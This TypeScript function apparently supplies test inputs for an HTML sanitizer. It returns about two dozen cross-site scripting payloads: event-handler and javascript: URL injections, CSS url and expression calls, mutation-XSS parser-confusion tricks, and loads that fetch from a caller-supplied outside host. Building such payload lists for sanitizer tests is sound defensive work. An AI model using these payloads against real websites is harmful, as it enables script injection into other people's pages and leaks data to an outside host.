/** HTML that tries to run something, or to fetch something from `away`; each ends what it opens. */
export function hostileHtml(away: string): string[] {
  const run = (name: string) => `fetch('${away}/${name}'),alert(1)`;
  return [
    `<svg onload="${run('svg')}"></svg><svg><script>${run('svg-script')}</script></svg>`,
    `<img src=x onerror="${run('onerror')}"><img srcset="${away}/srcset 1x"><img src="//${away.slice(7)}/relative">`,
    `<a id=a href="javascript:${run('href')}">a</a><a href="&#106;ava\tscript:${run('entity')}">b</a>`,
    `<a href="data:text/html,<script>${run('data')}</script>">c</a><a href="https://good.example" ping="${away}/ping">d</a>`,
    `<div style="background:url(${away}/background);width:expression(alert(1));list-style:url(${away}/list)">e</div>`,
    `<div style="color:red;--x:url(${away}/variable);border-image:url(${away}/border);position:fixed;inset:0">f</div>`,
    `<link rel=stylesheet href="${away}/link"><link rel=prefetch href="${away}/prefetch">`,
    `<meta http-equiv=refresh content="0;url=${away}/refresh"><base href="${away}/">`,
    `<form action="${away}/form"><input autofocus onfocus="${run('focus')}"><input type=image src="${away}/input"></form>`,
    `<iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe><iframe src="${away}/frame"></iframe>`,
    `<object data="${away}/object"></object><embed src="${away}/embed"><video src="${away}/video" poster="${away}/poster"></video>`,
    `<table background="${away}/table"><td background="${away}/cell">g</td></table><body background="${away}/body">`,
    `<details open ontoggle="${run('toggle')}">h</details><marquee onstart="${run('marquee')}">i</marquee>`,
    `<template><img src=x onerror="${run('template')}"></template><a target=_top href="${away}/top">j</a>`,
    `<img src="cid:x&quot; onerror=&quot;${run('cid')}"><img src="data:image/svg+xml,<svg onload='${run('svg-data')}'/>">`,
    `<style>@import url(${away}/import);body{background:url(${away}/style)}</style>`,
    `<!--[if IE]><img src=x onerror="${run('comment')}"><![endif]--><![CDATA[<img src=x onerror="${run('cdata')}">]]>`,
    `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mutation')}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run('mutation-2')}>">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run('mutation-3')} src>">`,
    `<textarea><img title="</textarea><img src onerror=${run('textarea')}>"><xmp><img title="</xmp><img src onerror=${run('xmp')}>">`,
    `<plaintext><script src="${away}/script"></script>`,
  ];
}
